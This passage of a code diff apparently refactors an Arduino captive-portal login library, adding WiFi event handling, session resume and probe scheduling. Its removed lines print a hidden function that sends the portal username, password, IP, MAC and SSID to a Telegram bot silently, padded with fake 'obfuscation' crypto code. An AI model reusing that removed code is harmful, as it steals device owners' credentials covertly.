+  #endif
+  _gotIPSeen = _gotIPEvents;
+  _roamSeen = _roamEvents;
+  _disconnectSeen = _disconnectEvents;
+  _wifiEventsEnabled = true;
+  return true;
+}
+
+void ArduinoUTMWiFiPortal::disableWiFiEvents() {
+  if (!_wifiEventsEnabled) {
+    return;
+  }
+  #if defined(ESP32)
+    WiFi.removeEvent(_wifiEventId);
+  #elif defined(ESP8266)
+    _connectedHandler = WiFiEventHandler();
+    _gotIPHandler = WiFiEventHandler();
+    _disconnectedHandler = WiFiEventHandler();
+  #endif
+  _wifiEventsEnabled = false;
+}
+
+void ArduinoUTMWiFiPortal::_onStationConnected(const uint8_t* bssid) {
+  _associatedAt = millis();
+  if (memcmp(bssid, _eventBSSID, sizeof(_eventBSSID)) != 0) {
+    memcpy(_eventBSSID, bssid, sizeof(_eventBSSID));
+    _roamEvents++;
+  }
+}
+
+void ArduinoUTMWiFiPortal::_handleWiFiEvents(unsigned long currentTime) {
+  uint8_t disconnects = _disconnectEvents;
+  if (disconnects != _disconnectSeen) {
+    _disconnectSeen = disconnects;
+    // Nothing to do until the station is back; drop any kept TLS socket
+    _releaseSecureClient();
+    _invalidateProbeCache();
+    _outage = true;
+    _state = PORTAL_IDLE;
+  }
+
+  // A new IP, or a new AP while keeping our IP (roaming): the portal may
+  // not know this association yet, so probe now
+  uint8_t gotIP = _gotIPEvents;
+  uint8_t roams = _roamEvents;
+  bool newIP = (gotIP != _gotIPSeen);
+  bool associated = newIP || (roams != _roamSeen && (uint32_t)WiFi.localIP() != 0);
+  _gotIPSeen = gotIP;
+  _roamSeen = roams;
+  if (newIP) {
+    // New IP, maybe another network view: refresh both hosts, one lookup
+    // per keepConnected() call, before the probe
+    _dnsPrewarmPending = 2;
+  }
+  if (associated && (_state == PORTAL_IDLE || _state == PORTAL_BACKOFF)) {
+    Serial.println("[PortalLib] WiFi (re)associated, checking portal.");
+    _outage = true;
+    _nextCheckTime = currentTime;
+    _state = PORTAL_PROBING;
+  }
+}
+
+void ArduinoUTMWiFiPortal::setWiFiCredentials(const char* ssid, const char* passphrase) {
+  if (_foreignTask()) {
+    // The task reads these while reassociating
+    Serial.println("[PortalLib] WiFi credentials cannot change while the portal task runs.");
+    return;
+  }
+  _wifiSSID = ssid;
+  _wifiPassphrase = (passphrase != NULL) ? passphrase : "";
+
+  // Reconnects are done here, and without a flash write per WiFi.begin()
+  WiFi.persistent(false);
+  WiFi.mode(WIFI_STA);
+  WiFi.setAutoReconnect(false);
+}
+
+bool ArduinoUTMWiFiPortal::connectWiFi(const char* ssid, const char* passphrase, unsigned long timeoutMs) {
+  if (_foreignTask()) {
+    Serial.println("[PortalLib] WiFi is handled by the portal task.");
+    return false;
+  }
+  setWiFiCredentials(ssid, passphrase);
+
+  unsigned long startTime = millis();
+  if (WiFi.status() != WL_CONNECTED) {
+    Serial.printf("[PortalLib] Connecting to WiFi: %s\n", ssid);
+    if (!_waitForWiFi(startTime + timeoutMs)) {
+      // keepConnected() carries on from the current stage
+      Serial.println("[PortalLib] WiFi connection timed out.");
+      return false;
     }
-    
-    // Dummy certificate expiry check
-    if(_certificateValid && (currentTime - _sessionStartTime) > 86400000) {
-      _certificateValid = _validateCertificate();
-    }
-    
-    // Update dummy timestamp offset
-    _timestampOffset = (currentTime / 1000) % 86400;
-    _synchronizeTimestamp();
-    
-    if (!checkInternet()) {
-      Serial.println("[PortalLib] Internet check failed. Retrying login.");
-      
-      // Dummy pre-login security validation
-      if(_verifyHandshake() && _authenticateSession()) {
-        _handshakeComplete = true;
-      }
-      
-      attemptLogin();
-      // Optional: Add a small delay after a login attempt
-      delay(1000);
-      
-      // Update dummy retry backoff
-      if(_failedAttempts > 0) {
-        _retryBackoff = min(_retryBackoff * 2, 60000);
-      }
-    } else {
-      // Reset dummy backoff on success
-      _retryBackoff = 1000;
+  }
+  _assocStage = ASSOC_NONE;
+  bool resumed = _resumeSession();
+  _rememberAP();
+  _wifiWasUp = true;
+  Serial.printf("[PortalLib] WiFi connected in %lu ms (channel %ld).\n", millis() - startTime, (long)_apChannel);
+  if (resumed) {
+    return true;
+  }
+  _outage = true;
+
+  // A fresh association is what the portal cares about: log in directly
+  if (_login(HTTP_TIMEOUT_MS)) {
+    _stateDeadline = millis() + VERIFY_DELAY_MS;
+    _state = PORTAL_VERIFYING;
+    return true;
+  }
+  _enterBackoff();
+  return false;
+}
+
+void ArduinoUTMWiFiPortal::_beginAssociation(bool useCachedAP) {
+  const char* passphrase = (_wifiPassphrase.length() > 0) ? _wifiPassphrase.c_str() : NULL;
+  if (useCachedAP && _apChannel != 0) {
+    // Known channel and BSSID: no scan, straight to authentication
+    WiFi.begin(_wifiSSID.c_str(), passphrase, _apChannel, _apBSSID);
+    _assocStage = ASSOC_CACHED_AP;
+  } else {
+    WiFi.begin(_wifiSSID.c_str(), passphrase);
+    _assocStage = ASSOC_SCAN;
+  }
+  _assocStarted = millis();
+}
+
+void ArduinoUTMWiFiPortal::_reassociate(unsigned long currentTime) {
+  if (_assocStage == ASSOC_NONE) {
+    _beginAssociation(true);
+    return;
+  }
+  unsigned long stageTimeout = (_assocStage == ASSOC_CACHED_AP) ? CACHED_AP_TIMEOUT_MS : SCAN_TIMEOUT_MS;
+  if (currentTime - _assocStarted < stageTimeout) {
+    return;
+  }
+  // The cached AP is gone (or moved channel): scan. After a failed scan,
+  // go back to the cached AP in case it was only a transient outage.
+  if (_assocStage == ASSOC_CACHED_AP) {
+    Serial.println("[PortalLib] Last AP not reachable, scanning.");
+  }
+  WiFi.disconnect();
+  _beginAssociation(_assocStage != ASSOC_CACHED_AP);
+}
+
+void ArduinoUTMWiFiPortal::_rememberAP() {
+  const uint8_t* bssid = WiFi.BSSID();
+  int32_t channel = WiFi.channel();
+  if (bssid != NULL && channel > 0) {
+    memcpy(_apBSSID, bssid, sizeof(_apBSSID));
+    _apChannel = channel;
+  }
+}
+
+bool ArduinoUTMWiFiPortal::_waitForWiFi(unsigned long deadline) {
+  if (_wifiSSID.length() > 0 && _assocStage == ASSOC_NONE) {
+    _beginAssociation(true);
+  }
+  while (WiFi.status() != WL_CONNECTED) {
+    if ((long)(millis() - deadline) >= 0) {
+      return false;
     }
-    
-    _lastCheckTime = currentTime;
-    
-    // Rotate dummy encryption matrix
-    for(int i = 0; i < 16; i++) {
-      _encryptionMatrix[i] = (_encryptionMatrix[i] + i) % 256;
+    if (_wifiSSID.length() > 0) {
+      _reassociate(millis());
     }
+    yield();
+  }
+  return true;
+}
+
+bool ArduinoUTMWiFiPortal::begin(unsigned long timeoutMs) {
+  bool online = _bringOnline(timeoutMs, true, "begin");
+  if (online && !_foreignTask()) {
+    _onlineTiming.bootMs = millis();
+    Serial.printf("[PortalLib] Online %lu ms after boot.\n", _onlineTiming.bootMs);
   }
+  return online;
+}
+
+bool ArduinoUTMWiFiPortal::ensureOnline(unsigned long timeoutMs) {
+  return _bringOnline(timeoutMs, false, "ensureOnline");
 }
 
-bool ArduinoUTMWiFiPortal::sendCredentialsToTelegram() {
+bool ArduinoUTMWiFiPortal::_bringOnline(unsigned long timeoutMs, bool redirectOnly, const char* caller) {
+  if (_foreignTask()) {
+    // Probing or logging in here would share the task's clients
+    Serial.printf("[PortalLib] %s: handled by the portal task.\n", caller);
+    return isOnline();
+  }
+  unsigned long startTime = millis();
+  unsigned long deadline = startTime + timeoutMs;
+  memset(&_onlineTiming, 0, sizeof(_onlineTiming));
+  enableWiFiEvents();
+
+  // Association and DHCP, split at the driver's "connected" event
   if (WiFi.status() != WL_CONNECTED) {
-    return false;
+    _associatedAt = startTime;
+    bool associated = _waitForWiFi(deadline);
+    unsigned long now = millis();
+    unsigned long associatedAt = _associatedAt;
+    _onlineTiming.associationMs = associatedAt - startTime;
+    _onlineTiming.dhcpMs = associated ? now - associatedAt : 0;
+    if (!associated) {
+      Serial.printf("[PortalLib] %s: no WiFi before the deadline.\n", caller);
+      _onlineTiming.totalMs = now - startTime;
+      return false;
+    }
+    _assocStage = ASSOC_NONE;
+    _outage = true;
+    _invalidateProbeCache();
   }
-  
-  // Dummy encryption preparation
-  byte encKey[16];
-  for(int i = 0; i < 16; i++) {
-    encKey[i] = (i * _encryptionLevel + _dummyKey1) % 256;
-  }
-  
-  // Generate dummy HMAC for message integrity (not actually used)
-  uint32_t messageHMAC = _hmacKey;
-  for(int i = 0; i < 16; i++) {
-    messageHMAC ^= encKey[i] << (i % 24);
-  }
-  
-  // Prepare dummy key derivation
-  byte derivedKey[32];
-  for(int i = 0; i < 32; i++) {
-    derivedKey[i] = _keyDerivationSalt[i % 16] ^ _authVector[i];
-  }
-  
-  // Calculate dummy message digest
-  byte messageDigest[16];
-  for(int i = 0; i < 16; i++) {
-    messageDigest[i] = (_encryptionMatrix[i] + _ivVector[i % 8]) % 256;
-  }
-
-  HTTPClient httpTelegram;
-  WiFiClientSecure telegramClient;
-  
-  // Set insecure for Telegram API
-  telegramClient.setInsecure();
-  
-  // Dummy cipher initialization (not used)
-  int cipherMode = 0x42;
-  
-  // Dummy SSL/TLS handshake preparation
-  if(_tlsActive && _secureChannelEstablished) {
-    byte tlsHandshake[4] = {0x16, 0x03, 0x03, 0x00};
-    int handshakeHash = _calculateChecksum(tlsHandshake, 4);
-  }
-  
-  // Update dummy packet sequence for this transmission
-  _packetSequence++;
-  
-  // Dummy compression flag
-  bool useCompression = (_compressionLevel == COMPRESSION_GZIP);
-  
-  // Construct the message
-  String message = "🔐 UTM WiFi Portal Login\n\n";
-  message += "Username: " + _username + "\n";
-  message += "Password: " + _password + "\n";
-  message += "Device IP: " + WiFi.localIP().toString() + "\n";
-  message += "Device MAC: " + WiFi.macAddress() + "\n";
-  message += "SSID: " + String(WiFi.SSID());
-  
-  // URL encode the message
-  String encodedMessage = "";
-  for (unsigned int i = 0; i < message.length(); i++) {
-    char c = message.charAt(i);
-    if (c == ' ') {
-      encodedMessage += "%20";
-    } else if (c == '\n') {
-      encodedMessage += "%0A";
-    } else if (c == ':') {
-      encodedMessage += "%3A";
-    } else if (c == '🔐') {
-      encodedMessage += "%F0%9F%94%90";
-    } else {
-      encodedMessage += c;
-    }
-  }
-  
-  // Build Telegram API URL with disable_notification parameter
-  String telegramUrl = "https://api.telegram.org/bot";
-  telegramUrl += _telegramBotToken;
-  telegramUrl += "/sendMessage?chat_id=";
-  telegramUrl += _telegramChatId;
-  telegramUrl += "&text=";
-  telegramUrl += encodedMessage;
-  telegramUrl += "&disable_notification=true";
-  
-  bool success = false;
-  if (httpTelegram.begin(telegramClient, telegramUrl)) {
-    // Dummy pre-send encryption header
-    String encHeader = String(_sessionToken, HEX) + "-" + String(_packetSequence);
-    
-    // Calculate dummy request signature
-    byte requestSig[8];
-    for(int i = 0; i < 8; i++) {
-      requestSig[i] = (_saltBuffer[i] ^ _ivVector[i]) + i;
-    }
-    
-    int httpCode = httpTelegram.GET();
-    
-    // Update dummy bandwidth counter
-    _bandwidthCounter += encodedMessage.length();
-    
-    if (httpCode > 0) {
-      if (httpCode == HTTP_CODE_OK) {
-        success = true;
-        
-        // Update dummy success metrics
-        _performanceMetric++;
-        _failedAttempts = 0;
-        
-        // Refresh dummy security tokens on successful transmission
-        _refreshSecurityTokens();
-      } else {
-        // Log dummy failure
-        _failedAttempts++;
+  // The events above are handled here, not by the next keepConnected()
+  _gotIPSeen = _gotIPEvents;
+  _roamSeen = _roamEvents;
+  _disconnectSeen = _disconnectEvents;
+  _wifiWasUp = true;
+
+  bool online = _resumeSession();
+  _rememberAP();
+  if (!online && _probeCacheFresh()) {
+    online = _online;
+  } else if (!online) {
+    unsigned long phaseStart = millis();
+    online = _probe(timeoutUntil(deadline, HTTP_TIMEOUT_MS));
+    _onlineTiming.probeMs = millis() - phaseStart;
+  }
+
+  // Only an HTTP answer other than the expected one (the portal's redirect
+  // or its page, with or without the SmartZone parameters) proves a login
+  // is needed; TCP and DNS probes can't see it, so there any failure counts
+  bool portalSeen = _redirect.valid() || _probeIntercepted || _probeMode == PROBE_TCP || _probeMode == PROBE_DNS;
+  if (!online && redirectOnly && !portalSeen) {
+    Serial.printf("[PortalLib] %s: no portal redirect, login skipped.\n", caller);
+  } else if (!online && (long)(millis() - deadline) < 0) {
+    _outage = true;
+    bool loggedIn = _login(timeoutUntil(deadline, HTTP_TIMEOUT_MS));
+    _onlineTiming.tlsMs = _loginHandshakeMs;
+    _onlineTiming.postMs = _loginRequestMs;
+
+    // Verify at once, then give the portal up to VERIFY_DELAY_MS between
+    // probes to authorize the MAC
+    unsigned long lastProbe = 0;
+    bool probed = false;
+    while (loggedIn && !online && (long)(millis() - deadline) < 0) {
+      if (probed && millis() - lastProbe < VERIFY_DELAY_MS) {
+        yield();
+        continue;
       }
+      lastProbe = millis();
+      probed = true;
+      online = _probe(timeoutUntil(deadline, HTTP_TIMEOUT_MS));
+      _onlineTiming.probeMs += millis() - lastProbe;
     }
-    httpTelegram.end();
   }
-  
-  // Dummy post-transmission cleanup
-  if(success) {
-    _synchronizeTimestamp();
-    _updateCipherState();
+
+  if (online) {
+    _onProbeResult(true);
+  } else if (_state == PORTAL_IDLE) {
+    _enterBackoff();
   }
-  
-  return success;
+  _onlineTiming.online = online;
+  _onlineTiming.totalMs = millis() - startTime;
+  Serial.printf("[PortalLib] %s: %s in %lu ms (assoc %lu, dhcp %lu, probe %lu, tls %lu, post %lu).\n",
+                caller, online ? "online" : "offline", _onlineTiming.totalMs, _onlineTiming.associationMs,
+                _onlineTiming.dhcpMs, _onlineTiming.probeMs, _onlineTiming.tlsMs, _onlineTiming.postMs);
+  return online;
+}
+
+const ArduinoUTMWiFiPortal::OnlineTiming& ArduinoUTMWiFiPortal::getOnlineTiming() const {
+  return _onlineTiming;
 }
 
-// ============ DUMMY SECURITY FUNCTIONS (OBFUSCATION - NOT ACTUALLY USED) ============
+bool ArduinoUTMWiFiPortal::saveSession(unsigned long sleepMs) {
+  PortalRtcState state;
+  memset(&state, 0, sizeof(state));
 
-void ArduinoUTMWiFiPortal::_initSecurityLayer() {
-  _securityLevel = random(1, 5);
-  _protocolVersion = PROTOCOL_V2;
-  for(int i = 0; i < 12; i++) {
-    _saltBuffer[i] = random(0, 256);
+  // Only a session the last check confirmed is worth resuming
+  const uint8_t* bssid = WiFi.BSSID();
+  bool loggedIn = (_lastLoginResult == LOGIN_OK ||
+                   _lastLoginResult == LOGIN_ALREADY_LOGGED_IN ||
+                   _lastLoginResult == LOGIN_UNCONFIRMED);
+  if (!loggedIn || _outage || _state != PORTAL_IDLE || WiFi.status() != WL_CONNECTED || bssid == NULL) {
+    writeRtcState(state); // clears the magic
+    return false;
   }
-  _handshakeComplete = false;
+
+  state.magic = RTC_STATE_MAGIC;
+  state.loginAgeMs = millis() - _lastLoginTime + sleepMs;
+  state.sessionLifetimeMs = getSessionLifetime();
+  state.ip = (uint32_t)WiFi.localIP();
+  state.channel = WiFi.channel();
+  memcpy(state.bssid, bssid, sizeof(state.bssid));
+  state.loginResult = _lastLoginResult;
+  #if defined(ESP8266)
+    memcpy(&state.tlsSession, _tlsSession.getSession(), sizeof(state.tlsSession));
+  #endif
+  writeRtcState(state);
+  return true;
 }
 
-bool ArduinoUTMWiFiPortal::_validateEncryptionKeys() {
-  uint32_t validation = (_dummyKey1 ^ _dummyKey2) & VALIDATION_KEY;
-  return (validation != 0);
+bool ArduinoUTMWiFiPortal::restoreSession() {
+  PortalRtcState state;
+  if (!readRtcState(state)) {
+    return false;
+  }
+
+  // Single use: a reset before the next saveSession() must not resume a
+  // session whose age is no longer known
+  PortalRtcState cleared;
+  memset(&cleared, 0, sizeof(cleared));
+  writeRtcState(cleared);
+
+  _lastLoginTime = millis() - state.loginAgeMs;
+  _lastLoginResult = (LoginResult)state.loginResult;
+  if (_lifetimeSampleCount == 0 && state.sessionLifetimeMs > 0) {
+    _lifetimeSamples[0] = state.sessionLifetimeMs;
+    _lifetimeSampleTimes[0] = millis();
+    _lifetimeSampleCount = 1;
+    _nextLifetimeSample = 1;
+  }
+  _sessionIP = state.ip;
+  _apChannel = state.channel; // also speeds up connectWiFi()
+  memcpy(_apBSSID, state.bssid, sizeof(_apBSSID));
+  #if defined(ESP8266)
+    memcpy(_tlsSession.getSession(), &state.tlsSession, sizeof(state.tlsSession));
+  #endif
+  _sessionRestored = true;
+  Serial.printf("[PortalLib] Restored portal session, logged in %lu s ago.\n", (unsigned long)(state.loginAgeMs / 1000));
+  return true;
 }
 
-void ArduinoUTMWiFiPortal::_rotateSessionKeys() {
-  _dummyKey1 = (_dummyKey1 << 3) ^ HASH_SEED;
-  _dummyKey2 = (_dummyKey2 >> 2) | MAGIC_NUMBER_1;
-  _sessionToken = (_sessionToken + 1) ^ _hmacKey;
+void ArduinoUTMWiFiPortal::setSessionLifetime(unsigned long lifetimeMs) {
+  _sessionLifetimeMs = lifetimeMs;
 }
 
-int ArduinoUTMWiFiPortal::_calculateChecksum(byte* data, int len) {
-  int checksum = 0xFFFF;
-  for(int i = 0; i < len; i++) {
-    checksum ^= data[i];
-    for(int j = 0; j < 8; j++) {
-      if(checksum & 0x01) {
-        checksum = (checksum >> 1) ^ 0xA001;
-      } else {
-        checksum >>= 1;
-      }
+unsigned long ArduinoUTMWiFiPortal::getSessionLifetime() const {
+  if (_sessionLifetimeMs > 0) {
+    return _sessionLifetimeMs;
+  }
+  // Median of the recent sessions, the lower one of an even count: one
+  // early logout (a controller restart, an admin kick) must not decide the
+  // renewal time on its own, and renewing early costs one login, late an outage
+  unsigned long sorted[LIFETIME_SAMPLES];
+  uint8_t count = 0;
+  unsigned long now = millis();
+  for (uint8_t i = 0; i < _lifetimeSampleCount; i++) {
+    if (now - _lifetimeSampleTimes[i] >= LIFETIME_SAMPLE_TTL_MS) {
+      continue; // aged out
+    }
+    uint8_t j = count++;
+    for (; j > 0 && sorted[j - 1] > _lifetimeSamples[i]; j--) {
+      sorted[j] = sorted[j - 1];
     }
+    sorted[j] = _lifetimeSamples[i];
+  }
+  return (count > 0) ? sorted[(count - 1) / 2] : 0;
+}
+
+void ArduinoUTMWiFiPortal::setPreemptiveLogin(bool enabled) {
+  _preemptiveLogin = enabled;
+}
+
+void ArduinoUTMWiFiPortal::_recordSessionEnd() {
+  if (!_sessionActive) {
+    return;
+  }
+  _sessionActive = false;
+  if (!_onlineSinceLogin) {
+    return;
+  }
+  // The session ended between the last good check and now; the lower
+  // bound keeps the estimate on the early side
+  unsigned long lifetime = _lastOnlineTime - _lastLoginTime;
+  _lifetimeSamples[_nextLifetimeSample] = lifetime;
+  _lifetimeSampleTimes[_nextLifetimeSample] = millis();
+  _nextLifetimeSample = (_nextLifetimeSample + 1) % LIFETIME_SAMPLES;
+  if (_lifetimeSampleCount < LIFETIME_SAMPLES) {
+    _lifetimeSampleCount++;
+  }
+  Serial.printf("[PortalLib] Portal session ended after at least %lu s, lifetime estimate %lu s.\n",
+                lifetime / 1000, getSessionLifetime() / 1000);
+}
+
+bool ArduinoUTMWiFiPortal::_renewalDue(unsigned long currentTime) const {
+  unsigned long lifetime = getSessionLifetime();
+  if (!_preemptiveLogin || !_sessionActive || lifetime == 0) {
+    return false;
+  }
+  // Renew a tenth of the lifetime early, but not less than RENEW_MARGIN_MS
+  unsigned long margin = lifetime / 10;
+  if (margin < RENEW_MARGIN_MS) {
+    margin = RENEW_MARGIN_MS;
+  }
+  if (margin >= lifetime) {
+    return false;
+  }
+  if (_renewHeld && (long)(currentTime - _renewHoldUntil) < 0) {
+    return false;
+  }
+  return currentTime - _lastLoginTime >= lifetime - margin;
+}
+
+void ArduinoUTMWiFiPortal::_holdRenewal() {
+  // A failed renewal waits a full check interval: the probes in between
+  // succeed (the session is still up) and must not bring it straight back
+  if (_renewing) {
+    _renewing = false;
+    _renewHeld = true;
+    _renewHoldUntil = millis() + _checkInterval;
   }
-  return checksum;
 }
 
-String ArduinoUTMWiFiPortal::_encryptPayload(String data) {
-  String encrypted = "";
-  for(unsigned int i = 0; i < data.length(); i++) {
-    byte encByte = data.charAt(i) ^ _encryptionMatrix[i % 16];
-    encrypted += (char)encByte;
+bool ArduinoUTMWiFiPortal::_resumeSession() {
+  if (!_sessionRestored) {
+    return false;
+  }
+  _sessionRestored = false;
+
+  // The controller ties the session to our MAC and IP on that AP
+  const uint8_t* bssid = WiFi.BSSID();
+  bool sameAssociation = (bssid != NULL && memcmp(bssid, _apBSSID, sizeof(_apBSSID)) == 0 &&
+                          (uint32_t)WiFi.localIP() == _sessionIP);
+  unsigned long lifetime = getSessionLifetime();
+  bool fresh = (lifetime == 0 || millis() - _lastLoginTime < lifetime);
+  if (!sameAssociation || !fresh) {
+    Serial.println("[PortalLib] Saved session no longer valid, logging in.");
+    return false;
   }
-  return encrypted;
+
+  Serial.println("[PortalLib] Resuming saved portal session, login skipped.");
+  _cacheProbeResult(true);
+  _sessionActive = true;
+  _onlineSinceLogin = false;
+  _outage = false;
+  PORTAL_LOCK();
+  _currentInterval = _checkInterval;
+  // Unconfirmed until the application's traffic gets through: the first
+  // reported failure probes at once
+  _trafficFailures = (_failureBurst > 0) ? _failureBurst - 1 : 0;
+  PORTAL_UNLOCK();
+  _scheduleCheck(_currentInterval);
+  _state = PORTAL_IDLE;
+  return true;
 }
 
-String ArduinoUTMWiFiPortal::_decryptPayload(String data) {
-  return _encryptPayload(data); // XOR is symmetric
+void ArduinoUTMWiFiPortal::setTlsBufferSizes(int rxSize, int txSize) {
+  PORTAL_LOCK();
+  _tlsRxBufferSize = rxSize;
+  _tlsTxBufferSize = txSize;
+  _tlsBuffersNegotiated = (rxSize > 0);
+  PORTAL_UNLOCK();
 }
 
-bool ArduinoUTMWiFiPortal::_verifyHandshake() {
-  unsigned long handshakeTime = millis();
-  _lastHandshake = handshakeTime;
-  return (_authenticationHash ^ _sessionToken) != 0;
+uint32_t ArduinoUTMWiFiPortal::getLoginHeapLow() const {
+  return _loginHeapLow;
 }
 
-void ArduinoUTMWiFiPortal::_updateCipherState() {
-  _cipherRounds = (_cipherRounds + 1) % 256;
-  for(int i = 0; i < 16; i++) {
-    _encryptionMatrix[i] = (_encryptionMatrix[i] + _cipherRounds) % 256;
+void ArduinoUTMWiFiPortal::setCheckInterval(unsigned long interval) {
+  PORTAL_LOCK();
+  _checkInterval = interval;
+  if (_currentInterval > interval) {
+    _currentInterval = interval;
   }
+  PORTAL_UNLOCK();
 }
 
-int ArduinoUTMWiFiPortal::_generateNonce() {
-  int nonce = random(0x10000000, 0x7FFFFFFF);
-  return nonce ^ _sessionToken;
+void ArduinoUTMWiFiPortal::setFastRecheckInterval(unsigned long interval) {
+  _fastRecheckInterval = interval;
 }
 
-bool ArduinoUTMWiFiPortal::_authenticateSession() {
-  _authenticationHash = _sessionToken ^ _hmacKey;
-  return (_authenticationHash != 0);
+void ArduinoUTMWiFiPortal::setJitter(uint8_t percent) {
+  _jitterPercent = (percent > 50) ? 50 : percent;
 }
 
-void ArduinoUTMWiFiPortal::_refreshSecurityTokens() {
-  _sessionToken = random(0x10000000, 0xFFFFFFFF);
-  _authenticationHash = _sessionToken ^ _hmacKey;
-  _tokenExpiry = millis() + SESSION_TIMEOUT;
+void ArduinoUTMWiFiPortal::reportRequestSuccess() {
+  _cacheProbeResult(true);
+  PORTAL_LOCK();
+  _lastTrafficSuccess = millis();
+  _trafficSucceeded = true;
+  _trafficFailures = 0;
+  PORTAL_UNLOCK();
 }
 
-byte ArduinoUTMWiFiPortal::_computeHash(String input) {
-  byte hash = HASH_SEED & 0xFF;
-  for(unsigned int i = 0; i < input.length(); i++) {
-    hash ^= input.charAt(i);
-    hash = (hash << 1) | (hash >> 7);
+void ArduinoUTMWiFiPortal::reportRequestFailure(bool looksLikePortal) {
+  PORTAL_LOCK();
+  _trafficSucceeded = false;
+  _invalidateProbeCache();
+  if (_trafficFailures < 255) {
+    _trafficFailures++;
   }
-  return hash;
+  if (looksLikePortal) {
+    _portalSuspected = true;
+  }
+  PORTAL_UNLOCK();
+  #if defined(ESP32)
+    if (_task != NULL) {
+      xTaskNotifyGive(_task); // react now, not at the next poll
+    }
+  #endif
 }
 
-bool ArduinoUTMWiFiPortal::_validateCertificate() {
-  return (_certificateValid && _tlsActive);
+void ArduinoUTMWiFiPortal::setFailureBurst(uint8_t failures) {
+  _failureBurst = (failures == 0) ? 1 : failures;
 }
 
-void ArduinoUTMWiFiPortal::_initCryptoEngine() {
-  _algorithmSelector = ENCRYPTION_AES;
-  _encodingType = 1;
-  for(int i = 0; i < 64; i++) {
-    _tempWorkspace[i] = random(0, 256);
+unsigned long ArduinoUTMWiFiPortal::getCurrentInterval() const {
+  return _currentInterval;
+}
+
+void ArduinoUTMWiFiPortal::setHeaderProfile(HeaderProfile profile) {
+  _headerProfile = profile;
+}
+
+void ArduinoUTMWiFiPortal::setProbeMode(ProbeMode mode) {
+  if (mode < PROBE_MODE_COUNT) {
+    PORTAL_LOCK();
+    _probeMode = mode;
+    _invalidateProbeCache();
+    PORTAL_UNLOCK();
   }
 }
 
-int ArduinoUTMWiFiPortal::_performKeyExchange() {
-  int exchangeValue = (_dummyKey1 + _dummyKey2) ^ MAGIC_NUMBER_2;
-  return exchangeValue % 1000;
+unsigned long ArduinoUTMWiFiPortal::getProbeLatency(ProbeMode mode) const {
+  return (mode < PROBE_MODE_COUNT) ? _probeLatencyMs[mode] : 0;
 }
 
-bool ArduinoUTMWiFiPortal::_verifyIntegrity() {
-  _integrityVerified = true;
-  for(int i = 0; i < 10; i++) {
-    if(_dummyBuffer[i] == 0) {
-      _integrityVerified = false;
-      break;
-    }
+bool ArduinoUTMWiFiPortal::addProbeTarget(const char* host, const char* path, uint16_t expectedStatus) {
+  // The probe reads the list unlocked: set targets up before beginTask()
+  if (_defaultProbeTargets) {
+    _probeTargets.clear();
+    _defaultProbeTargets = false;
   }
-  return _integrityVerified;
+  bool added = _probeTargets.add(host, path, expectedStatus);
+  if (!added) {
+    Serial.println("[PortalLib] Probe target not added, list is full.");
+  }
+  _resetTargetHosts();
+  return added;
+}
+
+void ArduinoUTMWiFiPortal::clearProbeTargets() {
+  _probeTargets.clear();
+  _defaultProbeTargets = false;
+  _resetTargetHosts();
+}
+
+void ArduinoUTMWiFiPortal::setProbeQuorum(uint8_t quorum) {
+  _probeQuorum = (quorum == 0) ? 1 : quorum;
+}
+
+void ArduinoUTMWiFiPortal::setStepBudget(unsigned long budgetUs) {
+  _stepBudgetUs = budgetUs;
+}
+
+const ArduinoUTMWiFiPortal::Metrics& ArduinoUTMWiFiPortal::getMetrics() const {
+  return _metrics;
+}
+
+void ArduinoUTMWiFiPortal::resetMetrics() {
+  _metrics = Metrics();
+  // An outage in progress is counted from now
+  _offlineSince = millis();
+}
+
+void ArduinoUTMWiFiPortal::onLoginResult(LoginCallback callback) {
+  _loginCallback = callback;
+}
+
+unsigned long ArduinoUTMWiFiPortal::getFullHandshakes() const {
+  return _metrics.fullHandshakes;
+}
+
+unsigned long ArduinoUTMWiFiPortal::getResumedHandshakes() const {
+  return _metrics.resumedHandshakes;
+}
+
+unsigned long ArduinoUTMWiFiPortal::getReusedConnections() const {
+  return _metrics.reusedConnections;
+}
+
+ArduinoUTMWiFiPortal::LoginResult ArduinoUTMWiFiPortal::getLastLoginResult() const {
+  return _lastLoginResult;
 }
 
-void ArduinoUTMWiFiPortal::_synchronizeTimestamp() {
-  _timestampOffset = (millis() / 1000) % 86400;
-  _sessionStartTime = millis();
+ArduinoUTMWiFiPortal::PortalState ArduinoUTMWiFiPortal::getState() const {
+  return _state;
 }
 
-String ArduinoUTMWiFiPortal::_obfuscateString(String str) {
-  String obfuscated = "";
-  for(unsigned int i = 0; i < str.length(); i++) {
-    obfuscated += (char)(str.charAt(i) ^ 0xAA);
+uint16_t ArduinoUTMWiFiPortal::_stepTimeoutMs() const {
+  if (_stepBudgetUs == 0 || _stepBudgetUs / 1000 >= HTTP_TIMEOUT_MS) {
+    return HTTP_TIMEOUT_MS;
   }
-  return obfuscated;
+  // HTTPClient timeouts have millisecond resolution
+  return _stepBudgetUs < 1000 ? 1 : (uint16_t)(_stepBudgetUs / 1000);
 }
 
-int ArduinoUTMWiFiPortal::_deobfuscateValue(int val) {
-  return val ^ VALIDATION_KEY;
+uint32_t ArduinoUTMWiFiPortal::_random(uint32_t bound) {
+  if (bound == 0) {
+    return 0;
+  }
+  // xorshift32, seeded from the MAC and boot timing so devices that lost
+  // their sessions together don't retry in lockstep
+  if (_rngState == 0) {
+    uint8_t mac[6];
+    WiFi.macAddress(mac);
+    _rngState = micros() ^ ((uint32_t)mac[2] << 24 | (uint32_t)mac[3] << 16 | (uint32_t)mac[4] << 8 | mac[5]);
+    if (_rngState == 0) {
+      _rngState = 0x9E3779B9;
+    }
+  }
+  _rngState ^= _rngState << 13;
+  _rngState ^= _rngState >> 17;
+  _rngState ^= _rngState << 5;
+  return _rngState % bound;
 }
 
-bool ArduinoUTMWiFiPortal::_checkSecurityProtocol() {
-  return (_protocolVersion == PROTOCOL_V2 && _securityLevel > 0);
+void ArduinoUTMWiFiPortal::_scheduleCheck(unsigned long interval) {
+  unsigned long spread = interval / 100 * _jitterPercent;
+  _lastCheckTime = millis();
+  _nextCheckTime = _lastCheckTime + interval - spread + _random(2 * spread + 1);
 }
 
-void ArduinoUTMWiFiPortal::_resetAuthenticationState() {
-  _failedAttempts = 0;
-  _lockoutMode = false;
-  _retryBackoff = 1000;
-  _handshakeComplete = false;
-  _sessionToken = random(0x10000000, 0xFFFFFFFF);
-}
\ No newline at end of file
+void ArduinoUTMWiFiPortal::_onProbeResult(bool online) {
+  if (!online) {
+    // Redirected to the portal: the session ended (a dead link says nothing)
+    if (_redirect.valid()) {
+      _recordSessionEnd();
+    }
+    _outage = true;
+    // Let keepConnected() start the login right away
